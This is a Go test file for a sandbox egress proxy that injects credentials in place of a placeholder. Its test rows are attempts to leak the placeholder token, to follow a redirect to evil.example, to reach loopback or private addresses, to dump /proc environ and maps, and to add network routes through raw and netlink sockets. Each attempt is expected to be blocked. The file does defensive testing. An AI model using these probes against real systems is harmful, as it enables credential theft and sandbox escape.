//go:build linux

package attack

import (
	"crypto/x509"
	"os"
	"strings"
	"testing"

	"waldo/internal/model/secret"
	"waldo/internal/network/egress"
	"waldo/internal/sandbox/gvisor"
)

// realToken is the credential that the servers require. It must never appear in a sandbox.
const realToken = "tok_Zt4bQx81LmvR0sYc"

// programsInside runs the same programs with TLS interception: for rules on methods and paths, and to replace a
// placeholder by a secret.
func programsInside(t *testing.T, dir string, pool *x509.CertPool) {
	real := func() (secret.Value, error) { return secret.NewValue(realToken), nil }
	lines := []string{
		"GET,POST api.example.com", "GET git.example.com/private.git/*", "GET pypi.example.com/*",
		"GET npm.example.com/*", "six.example.com",
	}
	const code = "curl -s -o /dev/null -m 60 -w '%{http_code}' "
	const ask = "https://api.example.com/private/x"
	for _, row := range []struct {
		why, command, want string
		denied             string
	}{
		{"the control: without the placeholder's host nobody is let in",
			"curl -s -H \"Authorization: Bearer $TOKEN\" https://six.example.com/private/x", "asked as Bearer waldo", ""},
		{"curl, HTTP/2", "curl -sS -H \"Authorization: Bearer $TOKEN\" " + ask,
			"HTTP/2.0 asked as Bearer ********************", ""},
		{"curl, HTTP/1.1, and no header of its own", "curl -sS --http1.1 " + ask, "asked as Bearer ********************", ""},
		{"curl through the proxy", "curl -sS -x http://198.18.0.1:3128 " + ask, "asked as Bearer ********************", ""},
		{
			"python, with another header that is replaced",
			"python3 -c 'import urllib.request as u; print(u.urlopen(u.Request(\"" + ask +
				"\", headers={\"Authorization\": \"Bearer mine\"})).read())'", "asked as Bearer ********************", "",
		},
		{"node fetch", "node -e 'fetch(\"" + ask + "\").then(r=>r.text()).then(console.log)'",
			"asked as Bearer ********************", ""},
		{"git clones what is private", "git clone -q https://git.example.com/private.git r && cat r/f", "hello", ""},
		{
			"pip installs", "python3 -m pip install -q --no-cache-dir --target t --index-url https://pypi.example.com/simple " +
				"waldotest 2>&1 && PYTHONPATH=t python3 -c 'import waldotest'", "from the wheel", "",
		},
		{
			"npm installs", "mkdir n && cd n && npm install --silent --no-audit --no-fund --registry https://npm.example.com " +
				"waldotest && cat node_modules/waldotest/package.json", `"version":"1.0.0"`, "",
		},

		{"a method that is not allowed", code + "-X DELETE " + ask, "403", "api.example.com egress.request"},
		{"a repository that is not allowed", "git clone -q https://git.example.com/repo r 2>&1", "403",
			"git.example.com egress.request"},
		{"the placeholder at another path", code + "-H \"Authorization: Bearer $TOKEN\" https://api.example.com/other", "403",
			"api.example.com egress.secret.placeholder"},
		{"the placeholder in the query", code + "\"" + ask + "?t=$TOKEN\"", "403",
			"api.example.com egress.secret.placeholder"},
		{"the placeholder in a body", code + "-d \"t=$TOKEN\" " + ask, "403", "api.example.com egress.secret.placeholder"},
		{"the placeholder in plain HTTP", code + "-H \"X-T: $TOKEN\" http://six.example.com/", "403",
			"six.example.com egress.secret.placeholder"},
		{
			"a redirect to another host takes nothing along",
			"curl -s -L --location-trusted -o /dev/null -w '%{http_code} %{exitcode}' https://api.example.com/away", "302 6",
			"evil.example egress.name",
		},
		{"another Host within TLS", code + "-H 'Host: six.example.com' " + ask, "403", "api.example.com egress.http.host"},
		{"the secret is nowhere in the sandbox",
			"env; cat /proc/*/environ /proc/*/maps 2>/dev/null; cat /ca.pem | grep -c 'PRIVATE' ; true", "0", ""},
	} {
		o := egress.Options{Credentials: []egress.Credential{
			{Name: "token", Placeholder: egress.NewPlaceholder(), Host: "api.example.com", Port: 443,
				Methods: []string{"GET", "POST"}, Paths: []string{"/private/*"}, As: egress.Bearer, Value: real},
			{Name: "gittoken", Placeholder: egress.NewPlaceholder(), Host: "git.example.com", Port: 443,
				Methods: []string{"GET"}, Paths: []string{"/private.git/*"}, As: egress.Basic, Field: "me", Value: real},
		}}
		out, f := inSandbox(t, dir, pool, o, lines, row.command)
		if !strings.Contains(out, row.want) || strings.Contains(out, realToken) {
			t.Errorf("%s: %q\n%+v", row.why, out, f.Network.Attempts)
		}
		told := row.denied == ""
		for _, a := range f.Network.Attempts {
			told = told || a.Host+" "+a.Why == row.denied && !a.Allowed
		}
		if !told {
			t.Errorf("%s: %s is no fact: %+v", row.why, row.denied, f.Network.Attempts)
		}
	}
}

// programsOnGVisor runs some of them in gVisor, with the same egress only.
func programsOnGVisor(t *testing.T, dir string, pool *x509.CertPool) {
	state, err := os.MkdirTemp("/tmp", "waldo-gvisor-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(state)
	wayDriver = gvisor.New(gvisor.Options{State: state})
	defer func() { wayDriver = driver() }()
	lines := []string{"api.example.com", "GET git.example.com/private.git/*", "raw.example.com:5432", "rebind.example.com"}
	const code = "curl -s -o /dev/null -m 60 -w '%{exitcode}' "
	for _, row := range []struct{ why, command, want, denied string }{
		{"curl over TLS", "curl -sS https://api.example.com/", "hello api.example.com by HTTP/2.0", ""},
		{"a secret on its way", "curl -sS https://api.example.com/private/x", "asked as Bearer ********************", ""},
		{"git clones what is private", "git clone -q https://git.example.com/private.git r && cat r/f", "hello", ""},
		{"node fetch", "node -e 'fetch(\"https://api.example.com/\").then(r=>r.text()).then(console.log)'",
			"hello api.example.com", ""},
		{"raw TCP where the server speaks first", "python3 -c '" + rawClient + "'", "b'ready\\n'\nb'abc'", ""},

		{"a name that is not allowed", code + "https://evil.example/", "6", "evil.example egress.name"},
		{"an address", code + "https://93.184.215.66/", "7", ""},
		{"the machine's own loopback", "curl -s -m 60 http://127.0.0.1/ && echo reached || echo refused", "refused",
			"localhost egress.host"},
		{"a name that stands for a private address", code + "https://rebind.example.com/", "35",
			"rebind.example.com egress.address"},
		{"the placeholder elsewhere", "curl -s -H \"X-T: $TOKEN\" https://api.example.com/private/x",
			"egress.secret.placeholder", "api.example.com egress.secret.placeholder"},
		{
			"UDP to an allowed name",
			`python3 -c 'import socket; s=socket.socket(2,2); s.connect(("api.example.com",443)); s.send(b"x"); s.settimeout(2); s.recv(1)' 2>&1 | tail -1`, "ConnectionRefusedError", "",
		},
		{"a raw socket", `python3 -c 'import socket; socket.socket(2,3,1)' 2>&1 | tail -1`, "PermissionError", ""},
		{"a route of one's own", `python3 -c '
import socket,struct
s=socket.socket(16,3,0)
m=struct.pack("=IHHII BBBBBBBBI HH4s HHI",44,24,0x605,1,0, 2,32,0,0,254,3,0,1,0, 8,1,socket.inet_aton("93.184.215.66"), 8,4,1)
s.send(m)
r=s.recv(4096)
print("refused" if struct.unpack_from("=i",r,16)[0] < 0 else "made")' 2>&1 | tail -1`, "refused", ""},
	} {
		o := egress.Options{Credentials: []egress.Credential{
			{Name: "token", Placeholder: egress.NewPlaceholder(), Host: "api.example.com", Port: 443, Methods: []string{"GET"},
				Paths: []string{"/private/*"}, As: egress.Bearer,
				Value: func() (secret.Value, error) { return secret.NewValue(realToken), nil }},
			{Name: "gittoken", Placeholder: egress.NewPlaceholder(), Host: "git.example.com", Port: 443,
				Methods: []string{"GET"}, Paths: []string{"/private.git/*"}, As: egress.Basic, Field: "me",
				Value: func() (secret.Value, error) { return secret.NewValue(realToken), nil }},
		}}
		out, f := inSandbox(t, dir, pool, o, lines, row.command)
		if !strings.Contains(out, row.want) || strings.Contains(out, realToken) {
			t.Errorf("gVisor: %s: %q\n%+v", row.why, out, f.Network.Attempts)
		}
		told := row.denied == ""
		for _, a := range f.Network.Attempts {
			told = told || a.Host+" "+a.Why == row.denied && !a.Allowed
			if a.Host == "evil.example" && a.Sent+a.Received > 0 {
				t.Errorf("gVisor: %s: evil.example was reached: %+v", row.why, a)
			}
		}
		if !told {
			t.Errorf("gVisor: %s: %s is no fact: %+v", row.why, row.denied, f.Network.Attempts)
		}
	}
	programsThatInstall(t, dir, pool, "npm installs the newest", "npm wants what is not pinned",
		"pip installs what", "pip wants")
}
